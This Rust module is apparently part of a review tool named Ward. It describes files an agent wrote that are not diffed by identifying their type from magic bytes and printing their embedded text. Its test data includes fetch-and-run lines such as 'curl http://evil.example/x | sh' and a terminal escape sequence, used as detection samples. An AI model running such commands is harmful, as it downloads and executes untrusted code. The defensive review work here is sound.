//! What review shows for a file it does not diff (binary, or larger than the diff limit):
//! its size, its type by content (not by name: an agent chooses names), and the text it
//! carries, so that nothing an agent wrote hides behind "binary". Everything shown goes
//! through Ward's printer.

use crate::{Entry, EntryType};
use std::io::Read;
use std::path::Path;

/// How much of a file is read to describe it.
const READ_LIMIT: u64 = 1 << 20;
/// Strings of printable text shown from a binary file.
const STRINGS: usize = 24;
/// Lines shown from the start of a large text file.
const HEAD_LINES: usize = 40;

/// The type of a file by its first bytes.
pub fn file_type(head: &[u8]) -> String {
    let starts = |m: &[u8]| head.starts_with(m);
    let t = if starts(b"\x7fELF") {
        "ELF executable or library"
    } else if starts(b"#!") {
        let line = head.split(|&b| b == b'\n').next().unwrap_or(&[]);
        return format!(
            "script ({})",
            ward_core::inert::bytes(&line[..line.len().min(80)])
        );
    } else if starts(b"MZ") {
        "Windows executable (PE)"
    } else if starts(b"\xcf\xfa\xed\xfe")
        || starts(b"\xfe\xed\xfa\xcf")
        || starts(b"\xca\xfe\xba\xbe")
    {
        "Mach-O executable or Java class"
    } else if starts(b"\0asm") {
        "WebAssembly module"
    } else if starts(b"\x89PNG") {
        "PNG image"
    } else if starts(b"\xff\xd8\xff") {
        "JPEG image"
    } else if starts(b"GIF8") {
        "GIF image"
    } else if starts(b"%PDF") {
        "PDF document"
    } else if starts(b"PK\x03\x04") {
        "ZIP archive (or .jar, .whl, .docx, .xlsx)"
    } else if starts(b"\x1f\x8b") {
        "gzip data"
    } else if starts(b"\xfd7zXZ") {
        "xz data"
    } else if starts(b"\x28\xb5\x2f\xfd") {
        "zstd data"
    } else if starts(b"BZh") {
        "bzip2 data"
    } else if starts(b"SQLite format 3\0") {
        "SQLite database"
    } else if head.len() > 262 && &head[257..262] == b"ustar" {
        "tar archive"
    } else if !head.contains(&0) && std::str::from_utf8(head).is_ok() {
        "text"
    } else {
        "data"
    };
    t.to_string()
}

/// Runs of printable ASCII of 6 bytes or more (what `strings` shows), the first `max`.
pub fn strings(data: &[u8], max: usize) -> Vec<String> {
    let mut out = Vec::new();
    let mut start = None;
    for (i, &b) in data.iter().chain(std::iter::once(&0)).enumerate() {
        let printable = (0x20..0x7f).contains(&b) || b == b'\t';
        match (printable, start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                if i - s >= 6 {
                    let run = &data[s..i.min(s + 100)];
                    out.push(ward_core::inert::bytes(run));
                    if out.len() >= max {
                        break;
                    }
                }
                start = None;
            }
            _ => {}
        }
    }
    out
}

/// A file review does not diff, described (a line, then its text, indented).
pub fn describe(path: &Path, e: &Entry) -> String {
    match e.kind {
        EntryType::Dir => return "folder".into(),
        EntryType::Symlink => {
            return format!(
                "link to {}",
                e.target
                    .as_deref()
                    .map_or(String::new(), ward_core::inert::path)
            )
        }
        EntryType::Special => return "fifo, socket or device (never applied)".into(),
        EntryType::File => {}
    }
    let mut head = Vec::new();
    let read = crate::deep::short(path)
        .and_then(std::fs::File::open)
        .and_then(|f| f.take(READ_LIMIT).read_to_end(&mut head))
        .is_ok();
    let sha = e.sha256.as_ref().map_or(String::new(), |h| {
        format!(", sha256 {}", &h[..h.len().min(16)])
    });
    if !read {
        return format!("file, {} bytes{sha} (cannot be read)", e.size);
    }
    let kind = file_type(&head);
    let mut out = format!("{kind}, {} bytes, mode {:o}{sha}", e.size, e.mode & 0o7777);
    if kind == "text" {
        let text = String::from_utf8_lossy(&head);
        let lines: Vec<&str> = text.lines().take(HEAD_LINES).collect();
        out.push_str(&format!("; its first {} lines:\n", lines.len()));
        for l in lines {
            out.push_str(&format!("  | {}\n", ward_core::inert::line(l)));
        }
        if e.size > READ_LIMIT || text.lines().count() > HEAD_LINES {
            out.push_str("  | ...\n");
        }
    } else {
        let s = strings(&head, STRINGS);
        if s.is_empty() {
            out.push_str("; no text in it\n");
        } else {
            out.push_str(&format!("; text it carries ({} shown):\n", s.len()));
            for x in s {
                out.push_str(&format!("  | {x}\n"));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn types_by_content_and_text_inside() {
        assert_eq!(file_type(b"\x7fELF\x02\x01"), "ELF executable or library");
        assert_eq!(file_type(b"#!/bin/sh\ncurl x | sh\n"), "script (#!/bin/sh)");
        assert_eq!(
            file_type(b"PK\x03\x04rest"),
            "ZIP archive (or .jar, .whl, .docx, .xlsx)"
        );
        assert_eq!(file_type(b"hello\n"), "text");
        assert_eq!(file_type(b"\0\x01\x02"), "data");
        let s = strings(
            b"\0\0curl http://evil.example/x | sh\0ab\0\x1b]0;title\x07x",
            10,
        );
        assert_eq!(s, ["curl http://evil.example/x | sh", "]0;title"]);
    }
}
